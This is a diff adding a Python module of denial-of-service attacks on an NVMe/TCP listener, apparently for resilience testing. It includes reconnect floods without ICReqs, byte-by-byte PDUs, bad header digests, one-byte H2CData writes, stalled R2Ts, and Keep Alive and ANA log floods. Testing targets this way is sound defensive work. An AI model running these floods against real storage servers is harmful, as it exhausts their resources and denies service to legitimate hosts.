@@ -1,0 +1,219 @@
+# SPDX-License-Identifier: BSD-3-Clause
+"""Attacks on a listener of NVMe/TCP."""
+
+import functools
+import itertools
+import os
+import struct
+
+import attack_admin
+import iwarp_peer as iw
+import nvmf_peer as nv
+import tcp_peer as tp
+from attack_hosts import DEPTH, LARGE, MIB, name, open_spawned, spawn
+from attack_lib import DRAIN, HOLD, addresses
+from attack_lib import attack as any_attack
+from t_loop import NQN
+
+RSP = 24      # bytes of a CapsuleResp, and of an R2T
+BYTES = 4096  # data of a Write that comes in pieces
+attack = functools.partial(any_attack, transport='tcp')
+
+
+def sgl(length=0):
+    return nv.offset_sgl(0, length, tp.TRANSPORT_SGL)
+
+
+def capsule(sqe, data=b''):
+    return tp.pdu(tp.CMD, sqe, data)
+
+
+def started(peer, **kw):
+    """ICReq and ICResp."""
+    peer.send(tp.icreq(**kw))
+    yield 128
+
+
+def response(peer):
+    return nv.Cqe.parse(iw.Message(iw.SEND, (yield RSP)[8:]))
+
+
+def associated(peer, hostnqn=nv.HOST_NQN, qid=0, cntlid=0xFFFF):
+    yield from started(peer)
+    body = struct.pack('<HHHBBI', 0, qid, DEPTH - 1, 0, 0, 0)
+    data = nv.connect_data(NQN, hostnqn, hostid=None, cntlid=cntlid)
+    peer.send(capsule(nv.fabrics_sqe(nv.CONNECT, 1, body, sgl=nv.offset_sgl(0, len(data))), data))
+    return nv.expect((yield from response(peer)))
+
+
+def enabled(peer):
+    """Until CSTS.RDY."""
+    for value in (0x00460000, 0x00460001):
+        peer.send(capsule(nv.fabrics_sqe(nv.PROPERTY_SET, 2, struct.pack('<B3xIQ', 0, nv.CC, value), sgl=sgl())))
+        nv.expect((yield from response(peer)))
+    while True:
+        peer.send(capsule(nv.fabrics_sqe(nv.PROPERTY_GET, 3, struct.pack('<B3xI', 0, nv.CSTS), sgl=sgl())))
+        if nv.expect((yield from response(peer))).dw0 & 1:
+            return
+
+
+def admin(peer, n, script, again):
+    """A host with an enabled controller, and @script for its I/O queue."""
+    cqe = yield from associated(peer, hostnqn=name(n))
+    yield from enabled(peer)
+    spawn(peer, functools.partial(script, n=n, cntlid=cqe.dw0 & 0xFFFF), again)
+    yield DRAIN
+
+
+def open_hosts(crowd, size, script, again=False):
+    numbers = iter(range(size))
+    crowd.open(size, lambda peer: admin(peer, next(numbers), script, again))
+    open_spawned(crowd)
+
+
+def write(cid, blocks):
+    return capsule(nv.sqe(nv.NVM_WRITE, cid, nsid=1, cdw10=1024, cdw12=blocks - 1, sgl=sgl(blocks * 512)))
+
+
+def no_icreq(peer):
+    peer.arrived()
+    yield HOLD
+
+
+@attack('TCP: connections without an ICReq', sizes=(256, 1200), small=300, busy=True)
+def silent(crowd, size):
+    """An attacker whose connection is closed reconnects at once."""
+    crowd.open(size, no_icreq, sources=addresses(1), again=True, wait=False)
+
+
+def only_icreq(peer):
+    yield from started(peer)
+    yield DRAIN
+
+
+@attack('TCP: ICReqs without a Connect', sizes=(1355,), small=200, busy=True)
+def no_connect(crowd, size):
+    crowd.open(size, only_icreq, sources=addresses(1), again=True)
+
+
+def byte_by_byte(peer):
+    peer.arrived()
+    for byte in tp.icreq() + capsule(nv.fabrics_sqe(nv.CONNECT, 1, bytes(24), sgl=sgl(1024))):
+        peer.send(bytes([byte]))
+        yield None
+    yield 128 + RSP
+
+
+@attack('TCP: PDUs that come byte by byte', sizes=(100,), small=20, busy=True)
+def slow_pdus(crowd, size):
+    os.nice(19)
+    crowd.open(size, byte_by_byte, again=True)
+
+
+def wrong_digest(peer):
+    yield from started(peer, dgst=1)
+    peer.arrived()
+    peer.send(tp.pdu(tp.CMD, nv.sqe(nv.KEEP_ALIVE, 1, sgl=sgl()), hdgst=True, bad_hdgst=True))
+    yield 1 << 16  # the target closes
+
+
+@attack('TCP: header digests that are wrong', sizes=(16,), small=4, busy=True)
+def digests(crowd, size):
+    os.nice(19)
+    crowd.open(size, wrong_digest, again=True)
+
+
+def terminating(peer):
+    yield from started(peer)
+    peer.arrived()
+    peer.send(tp.pdu(tp.H2C_TERM, struct.pack('<HI10x', tp.FES_SEQUENCE, 0)) + bytes(1 << 16))
+    yield 1 << 16
+
+
+@attack('TCP: H2CTermReqs with data behind them', sizes=(16,), small=4, busy=True)
+def terminations(crowd, size):
+    os.nice(19)
+    crowd.open(size, terminating, again=True)
+
+
+def in_pieces(peer, n, cntlid):
+    """The data of Writes, one byte in each PDU."""
+    yield from associated(peer, hostnqn=name(n), qid=1, cntlid=cntlid)
+    peer.arrived()
+    pieces = bytearray(b''.join(
+        tp.pdu(tp.H2C_DATA, struct.pack('<HHII4x', 1, 0, at, 1), b'\0', flags=tp.F_LAST if at == BYTES - 1 else 0)
+        for at in range(BYTES)))
+    while True:
+        peer.send(write(1, BYTES // 512))
+        r2t = yield RSP
+        pieces[10::25], pieces[11::25] = r2t[10:11] * BYTES, r2t[11:12] * BYTES
+        peer.send(pieces)
+        yield RSP
+
+
+@attack('TCP: H2CData of one byte each', sizes=(1, 16), small=2, busy=True)
+def pieces(crowd, size):
+    open_hosts(crowd, size, in_pieces)
+
+
+def no_data(peer, n, cntlid):
+    """Writes whose R2Ts get no data."""
+    yield from associated(peer, hostnqn=name(n), qid=1, cntlid=cntlid)
+    for cid in range(LARGE):
+        peer.send(write(cid, MIB))
+    yield None
+    yield HOLD
+
+
+@attack('TCP: R2Ts that get no data', sizes=(4, 100), small=20, blocks=('4k', '1M'))
+def stuck_writes(crowd, size):
+    open_hosts(crowd, size, no_data)
+
+
+def come_and_go(peer, numbers):
+    try:
+        yield from associated(peer, hostnqn=name(next(numbers) % 1000))
+    except iw.PeerError:
+        pass
+    peer.arrived()
+
+
+@attack('TCP: Connects', sizes=(60,), small=4, busy=True)
+def connects(crowd, size):
+    os.nice(19)
+    numbers = itertools.count()
+    crowd.open(size, lambda peer: come_and_go(peer, numbers), again=True)
+
+
+def ana_logs(peer, n):
+    yield from associated(peer, hostnqn=name(n))
+    yield from enabled(peer)
+    peer.arrived()
+    command = nv.sqe(nv.GET_LOG, 0, cdw10=attack_admin.ANA_LOG, sgl=sgl(4))
+    peer.send(capsule(command) * attack_admin.DEPTH)
+    while True:
+        yield 24 + 4 + RSP
+        peer.send(capsule(command))
+
+
+@attack('TCP: ANA log, four bytes', sizes=(60,), small=4, busy=True, config=attack_admin.all_seen)
+def admin_flood(crowd, size):
+    os.nice(19)
+    numbers = itertools.count()
+    crowd.open(size, lambda peer: ana_logs(peer, next(numbers) % 8))
+
+
+def batches(peer):
+    """As many commands at once as the queue has entries."""
+    yield from associated(peer)
+    peer.arrived()
+    batch = b''.join(capsule(nv.sqe(nv.KEEP_ALIVE, 1 + n, sgl=sgl())) for n in range(DEPTH - 1))
+    while True:
+        peer.send(batch)
+        yield RSP * (DEPTH - 1)
+
+
+@attack('TCP: batches of Keep Alive', sizes=(16,), small=4, busy=True)
+def keep_alives(crowd, size):
+    os.nice(19)
+    crowd.open(size, batches)
